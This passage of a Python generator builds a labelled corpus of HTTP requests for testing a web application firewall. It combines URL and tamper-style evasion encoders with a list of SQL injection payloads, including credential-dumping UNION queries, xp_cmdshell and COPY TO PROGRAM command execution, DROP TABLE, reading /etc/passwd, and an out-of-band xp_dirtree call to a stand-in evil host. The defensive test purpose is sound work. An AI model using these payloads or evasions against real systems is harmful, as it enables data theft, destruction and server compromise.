#!/usr/bin/env python3
"""Generates the labelled detection corpus in tests/corpus/*.jsonl.

Every payload and every benign request here was written by the palisade team from general,
public attack knowledge (attack classes, encoding tricks, sqlmap-style tamper ideas).  Nothing is
copied from a public WAF test suite or data set (OWASP CRS regression tests, CSIC 2010,
BlazeHTTP, PayloadsAllTheThings, ...): those are held out for a later, independent evaluation.

Deterministic: `python3 tests/corpus/generate.py` rewrites the same files byte for byte.
"""

import base64
import json
import os
import random
import string
from urllib.parse import quote, quote_plus

HERE = os.path.dirname(os.path.abspath(__file__))
R = random.Random(20240611)

# --------------------------------------------------------------------------------------------
# Common pieces: hosts, user agents, headers
# --------------------------------------------------------------------------------------------

HOSTS = ["shop.example.com", "api.example.com", "www.example.org", "app.example.net",
         "intranet.example.com", "localhost:8080", "portal.example.co.uk", "10.20.0.15"]

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.111 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
]

TOOL_UAS = [
    "curl/8.5.0", "curl/7.88.1", "python-requests/2.31.0", "python-requests/2.32.3",
    "Go-http-client/1.1", "Go-http-client/2.0", "Wget/1.21.4", "okhttp/4.12.0", "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Java-http-client/17.0.9", "PostmanRuntime/7.37.3", "insomnia/2023.5.8", "Dart/3.3 (dart:io)",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/124.0.6367.201 Safari/537.36",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "WhatsApp/2.23.20.0", "TelegramBot (like TwitterBot)", "kube-probe/1.29", "ELB-HealthChecker/2.0",
    "Prometheus/2.51.0", "Blackbox Exporter/0.25.0", "Datadog Agent/7.52.0",
    "check_http/v2.4.9 (nagios-plugins 2.4.9)", "Zabbix", "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 (StatusCake)",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "GitHub-Hookshot/5c7a1e2",
    "Expo/1017699 CFNetwork/1410.0.3 Darwin/22.6.0", "ShopApp/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
    "Grafana/10.4.2", "Terraform/1.8.2", "Renovate Bot (+https://github.com/renovatebot/renovate)",
]

# Attackers in the attack files use ordinary clients, so detections come from the payload and
# not from a scanner fingerprint (the scanner family is measured on its own).
ATTACK_UAS = BROWSER_UAS + ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4"]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9",
                "ja,en-US;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "zh-CN,zh;q=0.9,en;q=0.8", "ar,en;q=0.8"]


def rand_token(n, alphabet=string.ascii_letters + string.digits):
    return "".join(R.choice(alphabet) for _ in range(n))


def rand_hex(n):
    return rand_token(n, "0123456789abcdef")


def uuid4():
    h = rand_hex(32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{R.choice('89ab')}{h[17:20]}-{h[20:32]}"


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt():
    header = b64url(json.dumps({"alg": R.choice(["HS256", "RS256", "ES256"]), "typ": "JWT"}).encode())
    claims = {"sub": str(R.randint(1000, 999999)), "iat": 1716000000 + R.randint(0, 999999),
              "exp": 1717000000 + R.randint(0, 999999), "scope": R.choice(["read write", "openid profile email", "orders:read"]),
              "iss": R.choice(["https://auth.example.com/", "https://login.example.org"])}
    if R.random() < 0.5:
        claims["name"] = R.choice(["Siobhan O'Brien", "Marco D'Angelo", "Zoë Saldaña", "李小龙", "Ada Lovelace"])
    payload = b64url(json.dumps(claims, ensure_ascii=False).encode())
    sig = b64url(bytes(R.randrange(256) for _ in range(32 if R.random() < 0.6 else 64)))
    return f"{header}.{payload}.{sig}"


def analytics_cookies():
    ts = 1716000000 + R.randint(0, 9999999)
    parts = [
        f"_ga=GA1.2.{R.randint(100000000, 2147483647)}.{ts}",
        f"_gid=GA1.2.{R.randint(100000000, 2147483647)}.{ts + 86400}",
        f"_ga_{rand_token(10, string.ascii_uppercase + string.digits)}=GS1.1.{ts}.{R.randint(1, 40)}.1.{ts + 300}.0.0.0",
        f"_fbp=fb.1.{ts}123.{R.randint(100000000, 999999999)}",
        f"_gcl_au=1.1.{R.randint(100000000, 999999999)}.{ts}",
        f"ajs_anonymous_id=%22{uuid4()}%22",
        f"_hjSessionUser_{R.randint(100000, 3999999)}={b64url(json.dumps({'id': uuid4(), 'created': ts * 1000, 'existing': True}).encode())}",
        "OptanonConsent=isGPCEnabled=0&datestamp=Mon+May+20+2024+10%3A22%3A33+GMT%2B0200+(Central+European+Summer+Time)&version=202403.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&landingPath=NotLandingPage&groups=C0001%3A1%2CC0003%3A1%2CC0002%3A0%2CC0004%3A0",
        f"AMCV_{rand_hex(24).upper()}%40AdobeOrg=-1124106680%7CMCIDTS%7C19863%7CMCMID%7C{R.randint(10**37, 10**38 - 1)}%7CvVersion%7C5.2.0",
        f"__stripe_mid={uuid4()}{rand_hex(6)}",
        f"cf_clearance={rand_token(43, string.ascii_letters + string.digits + '_-')}-{ts}-0-1-{rand_hex(8)}.{rand_hex(8)}.{rand_hex(8)}-0.2.{ts}",
        "cookieyes-consent=consentid:" + rand_token(32) + ",consent:yes,action:yes,necessary:yes,functional:yes,analytics:yes,performance:no,advertisement:no",
        f"intercom-device-id-{rand_token(8).lower()}={uuid4()}",
    ]
    R.shuffle(parts)
    return parts[: R.randint(2, 6)]


def session_cookies():
    parts = [
        f"sessionid={rand_token(32).lower()}", f"csrftoken={rand_token(64)}",
        f"PHPSESSID={rand_token(26, string.ascii_lowercase + string.digits)}",
        f"JSESSIONID={rand_hex(32).upper()}.node{R.randint(1, 4)}",
        f"connect.sid=s%3A{rand_token(32)}.{rand_token(43)}",
        f"laravel_session={rand_token(40)}%3D%3D", f"XSRF-TOKEN={rand_token(40)}%3D",
        f"__Host-session={rand_token(48, string.ascii_letters + string.digits + '-_')}",
        f"ASP.NET_SessionId={rand_token(24, string.ascii_lowercase + string.digits)}",
        "lang=en-US", "theme=dark", "tz=Europe%2FBerlin", "currency=EUR",
        "cart=%5B%7B%22sku%22%3A%22TS-" + str(R.randint(100, 999)) + "%22%2C%22qty%22%3A2%7D%5D",
        "recently_viewed=1842%2C1901%2C77", "cookie_consent=accepted",
    ]
    R.shuffle(parts)
    return parts[: R.randint(1, 4)]


def browser_headers(host, ua=None, referer=None, cookies=None, accept=ACCEPT_HTML):
    ua = ua or R.choice(BROWSER_UAS)
    h = [["Host", host], ["User-Agent", ua], ["Accept", accept],
         ["Accept-Language", R.choice(ACCEPT_LANGS)], ["Accept-Encoding", "gzip, deflate, br, zstd"]]
    if "Chrome/" in ua and "Edg/" not in ua and R.random() < 0.7:
        v = ua.split("Chrome/")[1].split(".")[0]
        h.append(["sec-ch-ua", f'"Chromium";v="{v}", "Google Chrome";v="{v}", "Not-A.Brand";v="99"'])
        h.append(["sec-ch-ua-mobile", "?1" if "Mobile" in ua else "?0"])
        h.append(["sec-ch-ua-platform", '"Windows"' if "Windows" in ua else ('"Android"' if "Android" in ua else '"macOS"')])
        h.append(["Sec-Fetch-Site", R.choice(["same-origin", "none", "same-site", "cross-site"])])
        h.append(["Sec-Fetch-Mode", "navigate"])
        h.append(["Sec-Fetch-Dest", "document"])
    if referer:
        h.append(["Referer", referer])
    if cookies:
        h.append(["Cookie", "; ".join(cookies)])
    if R.random() < 0.25:
        h.append(["X-Forwarded-For", R.choice(["203.0.113.45", "198.51.100.23, 10.0.0.12", "2001:db8::1f", "192.0.2.77, 172.16.4.2, 10.1.1.1"])])
    if R.random() < 0.3:
        h.append(["Upgrade-Insecure-Requests", "1"])
    return h


def finish(method, target, headers, body=None, ctype=None):
    """Builds a request dict; sets Content-Type / Content-Length consistently for bodies."""
    d = {"method": method, "target": target}
    headers = [list(x) for x in headers]
    if body is not None:
        raw = body if isinstance(body, bytes) else body.encode("utf-8")
        if ctype:
            headers.append(["Content-Type", ctype])
        headers.append(["Content-Length", str(len(raw))])
        if ctype and "json" in ctype:
            json.loads(raw)  # JSON bodies must stay valid JSON whatever the evasion
        try:
            d["body"] = raw.decode("utf-8")
        except UnicodeDecodeError:
            d["body_b64"] = base64.b64encode(raw).decode()
    d["headers"] = headers
    return d


def multipart(parts):
    """parts: list of (name, value, filename or None, content type or None) -> (body, ctype)."""
    boundary = "----WebKitFormBoundary" + rand_token(16)
    out = []
    for name, value, filename, ct in parts:
        disp = f'form-data; name="{name}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        out.append(f"--{boundary}\r\nContent-Disposition: {disp}\r\n")
        if ct:
            out.append(f"Content-Type: {ct}\r\n")
        out.append("\r\n")
        out.append(value)
        out.append("\r\n")
    out.append(f"--{boundary}--\r\n")
    return "".join(out), f"multipart/form-data; boundary={boundary}"


# --------------------------------------------------------------------------------------------
# Encodings (applied to a decoded payload, in a given context of the request)
# --------------------------------------------------------------------------------------------

def pct_bytes(b, lower=False):
    return "".join(("%%%02x" if lower else "%%%02X") % x for x in b)


def enc_min(s, ctx="query", plus=False):
    """Only what a request target / cookie cannot carry raw: quotes and brackets stay raw."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch == " ":
            out.append("+" if plus and ctx in ("query", "form") else "%20")
        elif o < 0x21 or o > 0x7E or ch in "#%" or (ctx in ("query", "form") and ch in "&+") \
                or (ctx == "path" and ch in "?") or (ctx == "cookie" and ch in ';,"\\'):
            out.append(pct_bytes(ch.encode("utf-8")))
        else:
            out.append(ch)
    return "".join(out)


def enc_url(s, lower=False):
    q = quote(s.encode("utf-8"), safe="")
    return q.lower() if lower else q  # lower() only touches hex digits and letters already safe


def enc_url_lower(s):
    out = []
    for ch in s:
        if ch.isalnum() and ord(ch) < 128 or ch in "_.-~":
            out.append(ch)
        else:
            out.append(pct_bytes(ch.encode("utf-8"), lower=True))
    return "".join(out)


def enc_double(s):
    return quote(quote(s.encode("utf-8"), safe=""), safe="")


def enc_unicode(s):
    out = []
    for ch in s:
        if (ch.isalnum() and ord(ch) < 128) or ch in "_.-~":
            out.append(ch)
        else:
            out.append("%%u%04X" % ord(ch) if ord(ch) < 0x10000 else pct_bytes(ch.encode()))
    return "".join(out)


OVERLONG_CHARS = set("/.\\<>'\"();=")


def enc_overlong(s, ctx="query"):
    out = []
    for ch in s:
        if ch in OVERLONG_CHARS:
            o = ord(ch)
            if R.random() < 0.8:
                out.append("%%%02X%%%02X" % (0xC0 | (o >> 6), 0x80 | (o & 0x3F)))
            else:
                out.append("%%E0%%%02X%%%02X" % (0x80 | (o >> 6), 0x80 | (o & 0x3F)))
        else:
            out.append(enc_min(ch, ctx))
    return "".join(out)


def enc_mixed(s, ctx="query"):
    out = []
    for ch in s:
        m = enc_min(ch, ctx)
        if m != ch:
            out.append(m)
        elif not ch.isalnum() and R.random() < 0.6:
            out.append(pct_bytes(ch.encode(), lower=R.random() < 0.5))
        elif ch.isalnum() and R.random() < 0.15:
            out.append(pct_bytes(ch.encode(), lower=R.random() < 0.5))
        else:
            out.append(ch)
    return "".join(out)


def enc_charencode(s):
    return pct_bytes(s.encode("utf-8"))


def enc_charunicode(s):
    return "".join("%%u%04X" % ord(ch) for ch in s)


def enc_percentage(s, ctx="query"):
    return "".join("%" + ch if ch.isalpha() and ord(ch) < 128 else enc_min(ch, ctx) for ch in s)


FULLWIDTH = set("<>'\"/.;|&()=`$")


def enc_fullwidth(s, ctx="query"):
    return enc_min("".join(chr(ord(c) + 0xFEE0) if c in FULLWIDTH else c for c in s), ctx)


URL_ENCODINGS = {
    "raw": lambda s, ctx: enc_min(s, ctx),
    "plus": lambda s, ctx: enc_min(s, ctx, plus=True),
    "url": lambda s, ctx: enc_url(s),
    "url-lower": lambda s, ctx: enc_url_lower(s),
    "double": lambda s, ctx: enc_double(s),
    "unicode": lambda s, ctx: enc_unicode(s),
    "overlong": enc_overlong,
    "mixed": enc_mixed,
    "charencode": lambda s, ctx: enc_charencode(s),
    "charunicode": lambda s, ctx: enc_charunicode(s),
    "percentage": enc_percentage,
    "fullwidth": enc_fullwidth,
}


def json_unicode_escape(obj_json):
    """Escapes <>'&"-ish characters inside JSON strings as \\uXXXX (valid JSON, same value)."""
    out = []
    in_str = False
    esc = 0  # characters still to copy verbatim after a backslash
    for ch in obj_json:
        if in_str:
            if esc:
                esc = 4 if (esc == 5 and ch == "u") else esc - 1 if esc != 5 else 0
                out.append(ch)
            elif ch == "\\":
                esc = 5
                out.append(ch)
            elif ch == '"':
                in_str = False
                out.append(ch)
            elif ch in "<>'&()/;=|`${}." or (ch.isalpha() and R.random() < 0.2):
                out.append("\\u%04x" % ord(ch))
            else:
                out.append(ch)
        else:
            if ch == '"':
                in_str = True
            out.append(ch)
    return "".join(out)


# --------------------------------------------------------------------------------------------
# Placement of an attack payload into a request
# --------------------------------------------------------------------------------------------

PLACEMENTS = ["query", "query-mid", "path", "form", "json", "cookie", "user-agent", "referer",
              "x-forwarded-for", "multipart", "filename", "query-name"]
HEADER_PLACEMENTS = {"user-agent", "referer", "x-forwarded-for"}


def nest_json(key, value, depth):
    wrappers = [
        lambda v: {"data": v},
        lambda v: {"filter": {"where": v}},
        lambda v: [{"op": "replace", "path": "/name", "value": v}],
        lambda v: {"items": [{"id": 7, "attrs": v}]},
        lambda v: {"payload": {"meta": {"tags": ["a", "b"]}, "body": v}},
    ]
    obj = {key: value}
    for _ in range(depth):
        obj = R.choice(wrappers)(obj)
    if isinstance(obj, dict):
        obj.setdefault("request_id", uuid4())
    return obj


def place(payload, placement, encoding, spec):
    """spec: dict with 'paths' (list of endpoints), 'params' (list of names), 'json_keys'.
    Returns (request dict without id/label, description)."""
    host = R.choice(HOSTS)
    ua = R.choice(ATTACK_UAS)
    param = R.choice(spec["params"])
    endpoint = R.choice(spec["paths"])
    headers = [["Host", host], ["User-Agent", ua], ["Accept", R.choice(["*/*", ACCEPT_HTML, "application/json"])]]
    cookies = []
    if R.random() < 0.5:
        cookies = session_cookies()

    def q(s, ctx="query"):
        return URL_ENCODINGS[encoding](s, ctx)

    def with_cookies(hs):
        if cookies:
            hs.append(["Cookie", "; ".join(cookies)])
        return hs

    if placement == "query":
        sep = "&" if "?" in endpoint else "?"
        return finish("GET", f"{endpoint}{sep}{param}={q(payload)}", with_cookies(headers)), f"query {param}"
    if placement == "query-mid":
        before = R.choice(["lang=en", "page=2", "utm_source=newsletter", "v=3", "sort=asc"])
        after = R.choice(["limit=20", "format=json", "ref=home", "_=1716389201123", "debug=false"])
        return finish("GET", f"{endpoint.split('?')[0]}?{before}&{param}={q(payload)}&{after}", with_cookies(headers)), f"query {param} (between others)"
    if placement == "query-name":
        return finish("GET", f"{endpoint.split('?')[0]}?{q(payload)}=1", with_cookies(headers)), "query parameter name"
    if placement == "path":
        base = R.choice(spec.get("path_prefixes", ["/api/v1/items/", "/product/", "/user/profile/", "/files/"]))
        seg = q(payload, "path")
        if encoding in ("raw", "plus", "mixed", "overlong", "percentage", "fullwidth"):
            seg = seg.replace("/", "%2F") if spec.get("escape_slash_in_path", True) else seg
        return finish(R.choice(["GET", "GET", "DELETE", "HEAD"]), base + seg, with_cookies(headers)), "path segment"
    if placement == "form":
        fields = [("csrf_token", rand_token(32)), (param, None), ("submit", "Save")]
        R.shuffle(fields)
        body = "&".join(f"{k}={q(payload, 'form') if v is None else v}" for k, v in fields)
        return finish("POST", endpoint.split("?")[0], with_cookies(headers), body,
                      "application/x-www-form-urlencoded"), f"form field {param}"
    if placement == "json":
        depth = R.randint(0, 3)
        obj = nest_json(R.choice(spec.get("json_keys", [param])), payload, depth)
        body = json.dumps(obj, ensure_ascii=False)
        if encoding in ("unicode", "charunicode"):
            body = json_unicode_escape(body)
            how = "json \\u-escaped"
        else:
            how = "json"
        return finish(R.choice(["POST", "PUT", "PATCH"]), R.choice(spec.get("api_paths", ["/api/v1/search", "/api/orders", "/graphql", "/api/v2/users/17"])),
                      with_cookies(headers), body, R.choice(["application/json", "application/json; charset=utf-8"])), f"{how} depth {depth}"
    if placement == "cookie":
        name = R.choice(spec.get("cookie_names", ["prefs", "lang", "tracking_id", "last_search", "uid"]))
        v = enc_min(payload, "cookie") if encoding in ("raw", "plus") else q(payload, "cookie")
        cookies.append(f"{name}={v}")
        return finish("GET", endpoint.split("?")[0], with_cookies(headers)), f"cookie {name}"
    if placement == "user-agent":
        headers[1][1] = payload if R.random() < 0.5 else f"{R.choice(BROWSER_UAS)} {payload}"
        return finish("GET", endpoint.split("?")[0], with_cookies(headers)), "User-Agent header"
    if placement == "referer":
        ref = f"https://{host}/search?q={q(payload)}" if R.random() < 0.6 else payload
        headers.append(["Referer", ref])
        return finish("GET", endpoint.split("?")[0], with_cookies(headers)), "Referer header"
    if placement == "x-forwarded-for":
        headers.append(["X-Forwarded-For", payload if R.random() < 0.5 else f"{payload}, 10.0.0.7"])
        return finish("GET", endpoint.split("?")[0], with_cookies(headers)), "X-Forwarded-For header"
    if placement == "multipart":
        body, ct = multipart([("title", "My upload", None, None), (param, payload, None, None),
                              ("file", "hello world\n", "notes.txt", "text/plain")])
        return finish("POST", R.choice(["/upload", "/api/attachments", "/profile/avatar"]), with_cookies(headers), body, ct), f"multipart field {param}"
    if placement == "filename":
        body, ct = multipart([("description", "scan of invoice", None, None),
                              ("document", "%PDF-1.4\n%fake\n", payload, "application/octet-stream")])
        return finish("POST", R.choice(["/upload", "/api/attachments", "/documents/new"]), with_cookies(headers), body, ct), "multipart filename"
    raise ValueError(placement)


def header_safe(s):
    return all(0x20 <= ord(c) < 0x7F or ord(c) > 0x9F for c in s) and "\t" not in s


def variants(payloads, spec, tampers, placements, encodings, per_payload, label, notes_prefix=""):
    """payloads: list of (payload, note). Yields request dicts: the first variant of every payload
    is plain (no tamper, first placement, raw); the rest are sampled combinations."""
    combos = [(t, p, e) for t in tampers for p in placements for e in encodings]
    out = []
    for item in payloads:
        payload, note = item[0], item[1]
        pre_tamper = item[2] if len(item) > 2 else None
        chosen = [(tampers[0], placements[0], "raw")]
        pool = combos[:]
        R.shuffle(pool)
        for c in pool:
            if len(chosen) >= per_payload:
                break
            t, p, e = c
            if c in chosen:
                continue
            if p in HEADER_PLACEMENTS | {"multipart", "filename", "json"} and e not in ("raw", "unicode"):
                continue
            if p in HEADER_PLACEMENTS and (e != "raw" and p != "referer"):
                continue
            if p == "filename" and ('"' in payload or "\n" in payload):
                continue
            if t == "space2plus" and p not in ("query", "query-mid", "form", "query-name"):
                continue
            chosen.append(c)
        for t, p, e in chosen:
            tp = TAMPERS[t](payload)
            if p in HEADER_PLACEMENTS and p != "referer" and not header_safe(tp):
                p = "query"
            if p in HEADER_PLACEMENTS and p == "referer" and e == "raw" and not header_safe(tp):
                e = "url"
            d, where = place(tp, p, e, spec)
            d["label"] = label
            tname = pre_tamper if pre_tamper and t == "none" else t
            d["note"] = f"{notes_prefix}{note}; tamper={tname}; in {where}; encoding={e}"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# Tampers (payload-level evasions)
# --------------------------------------------------------------------------------------------

def t_randomcase(s):
    return "".join(c.upper() if R.random() < 0.5 else c.lower() for c in s)


def sql_words_case(s):
    out = []
    for w in s.split(" "):
        if w.isalpha() and w.upper() == w:
            w = t_randomcase(w)
        out.append(w)
    return " ".join(out)


def t_between(s):
    s = s.replace(">64", " NOT BETWEEN 0 AND 64").replace(">0", " NOT BETWEEN 0 AND 0")
    for a in ("1=1", "2=2", "3=3"):
        s = s.replace(a, f"{a[0]} BETWEEN {a[0]} AND {a[0]}")
    return s


def t_concat_sql(s):
    for word in ("admin", "root", "users", "passwd"):
        if f"'{word}'" in s:
            return s.replace(f"'{word}'", "CONCAT(" + ",".join(f"CHAR({ord(c)})" for c in word) + ")")
    return s.replace("'x'='x'", "'x'='x'||''").replace("'a'='a", "'a'=CHAR(97)||'")


TAMPERS = {
    "none": lambda s: s,
    "randomcase": sql_words_case,
    "space2comment": lambda s: s.replace(" ", "/**/"),
    "space2tab": lambda s: s.replace(" ", "\t"),
    "space2newline": lambda s: s.replace(" ", "\n"),
    "space2plus": lambda s: s.replace(" ", "+"),
    "space2hash": lambda s: s.replace(" ", f"#{rand_token(4).lower()}\n"),
    "space2dash": lambda s: s.replace(" ", f"--{rand_token(3)}\n"),
    "space2mssqlblank": lambda s: s.replace(" ", R.choice(["\x0b", "\x0c", "\r", "\x01"])),
    "versioned": lambda s: s.replace("UNION", "/*!50000UNION*/").replace("SELECT", "/*!50000SELECT*/").replace("union", "/*!12345union*/").replace("select", "/*!12345select*/"),
    "between": t_between,
    "equaltolike": lambda s: s.replace("=", " LIKE "),
    "symboliclogical": lambda s: s.replace(" OR ", " || ").replace(" AND ", " && ").replace(" or ", " || ").replace(" and ", " && "),
    "apostrophemask": lambda s: s.replace("'", "\uff07"),
    "apostrophenull": lambda s: s.replace("'", "\x00'"),
    "unmagicquotes": lambda s: s.replace("'", "\u00bf'", 1),
    "concat": t_concat_sql,
    "nullprefix": lambda s: "\x00" + s,
    "parens": lambda s: t_parens(s),
}


def t_parens(s):
    """UNION SELECT a,b -> UNION(SELECT a,b) keeping a trailing comment outside."""
    if "UNION SELECT " not in s:
        return s
    body, sep, tail = s.partition("--")
    if not sep:
        body, sep, tail = s.partition("#")
    body = body.rstrip().replace("UNION SELECT ", "UNION(SELECT ", 1) + ")"
    return body + (sep + tail if sep else "")


# --------------------------------------------------------------------------------------------
# SQL injection
# --------------------------------------------------------------------------------------------

SQLI_PAYLOADS = [
    # tautologies
    ("1 OR 1=1", "numeric tautology"),
    ("7 or 2>1", "numeric tautology, comparison"),
    ("42) OR (3=3", "tautology closing a parenthesis"),
    ("x' OR 'x'='x", "string tautology"),
    ("bob' or 1=1-- -", "string tautology, dash comment"),
    ("admin'-- ", "comment out password check"),
    ("admin' #", "comment out password check, hash"),
    ("') or ('k'='k", "tautology in parentheses"),
    ("\" or \"\"=\"", "double-quote tautology"),
    ("' OR 'a'='a", "classic quote tautology"),
    ("1' or '1'='1' limit 1 -- ", "tautology with limit"),
    ("' or true--", "boolean literal"),
    ("zz' OR 2 BETWEEN 1 AND 3-- x", "between tautology"),
    ("' OR username IS NOT NULL OR username = '", "is not null tautology"),
    ("' or 'abc' like 'a%", "like tautology"),
    # union based
    ("-3 UNION SELECT 1,2,3--", "union select numbers"),
    ("0 UNION ALL SELECT NULL,username,password FROM users--", "union all select credentials"),
    ("' UNION SELECT table_name,NULL FROM information_schema.tables-- ", "union select information_schema"),
    ("1 UNION SELECT @@version,2", "union select version variable"),
    ("9999' UNION SELECT user(),database(),version()#", "union select mysql functions"),
    ("-1' UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='users'-- -", "enumerate columns"),
    ("1) UNION SELECT group_concat(schema_name),2 FROM information_schema.schemata-- ", "group_concat schemata"),
    ("' UNION SELECT sql,1 FROM sqlite_master-- ", "sqlite schema"),
    ("' UNION SELECT banner,NULL FROM v$version WHERE rownum=1--", "oracle banner"),
    ("1 UNION SELECT name,password_hash FROM sys.sql_logins--", "mssql logins"),
    ("' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -", "mysql load_file"),
    ("1 UNION SELECT usename,passwd FROM pg_shadow--", "postgres shadow"),
    # stacked
    ("1; DROP TABLE sessions--", "stacked drop table"),
    ("'; exec master..xp_cmdshell 'ping 10.0.0.5'--", "xp_cmdshell"),
    ("1; INSERT INTO admins(name,pass) VALUES('eve','x')--", "stacked insert"),
    ("'; UPDATE users SET role='admin' WHERE name='mallory'--", "stacked update"),
    ("1;shutdown--", "stacked shutdown"),
    ("'; DECLARE @q varchar(99); SET @q='dir'; EXEC xp_cmdshell @q--", "declare exec"),
    ("1; COPY (SELECT '') TO PROGRAM 'id'--", "postgres copy to program"),
    # time based blind
    ("1 AND SLEEP(7)", "sleep"),
    ("' AND (SELECT 4242 FROM (SELECT(SLEEP(6)))abc)-- x", "nested sleep"),
    ("1; WAITFOR DELAY '0:0:8'--", "waitfor delay"),
    ("1 AND 1=(SELECT 1 FROM pg_sleep(5))--", "pg_sleep"),
    ("'||pg_sleep(9)||'", "concat pg_sleep"),
    ("1 AND BENCHMARK(4000000,MD5(0x41))", "benchmark"),
    ("(select*from(select(sleep(3)))a)", "sleep subquery without spaces"),
    ("1 or dbms_pipe.receive_message('a',5)=1", "oracle dbms_pipe"),
    ("1' AND IF(1=1,SLEEP(4),0)-- ", "conditional sleep"),
    # error based
    ("1 AND extractvalue(1,concat(0x7e,(select user())))", "extractvalue"),
    ("1 AND updatexml(null,concat(0x0a,version()),null)", "updatexml"),
    ("' AND 1=CONVERT(int,(SELECT @@version))--", "convert error"),
    ("1 AND 1=cast((select current_user) as int)", "cast error"),
    ("' and exp(~(select * from (select user())x))-- ", "exp overflow"),
    ("1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)", "floor rand group by"),
    ("1 AND 1=utl_inaddr.get_host_name((select user from dual))", "oracle utl_inaddr"),
    ("'+(select top 1 name from sysobjects)+'", "mssql sysobjects concat"),
    # boolean blind
    ("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64", "ascii substring"),
    ("' AND substr(version(),1,1)='5", "substr version"),
    ("1 AND (select count(*) from users)>0", "count subquery"),
    ("1' AND LENGTH(database())=8-- -", "length database"),
    ("1 and mid(user(),1,1)='r'", "mid user"),
    ("1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1", "case when"),
    ("(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)", "case division by zero"),
    ("1 AND 1=(SELECT COUNT(*) FROM all_users)", "oracle all_users"),
    ("' or 1 in (select @@version)-- ", "IN-list subquery"),
    # order / group / misc
    ("1 ORDER BY 12--", "order by column count"),
    ("1' group by 3-- -", "group by column count"),
    ("1 HAVING 1=1--", "having"),
    ("1 procedure analyse()", "procedure analyse"),
    ("' INTO OUTFILE '/var/www/html/s.txt'-- ", "into outfile"),
    ("1; EXEC master..xp_dirtree '\\\\x.evil.example\\a'--", "xp_dirtree oob"),
    ("id,(select password from users limit 1)", "subquery in column list"),
    ("name desc,(select if(1=1,1,(select 1 union select 2)))", "order-by injection"),
]

SQLI_SPEC = {
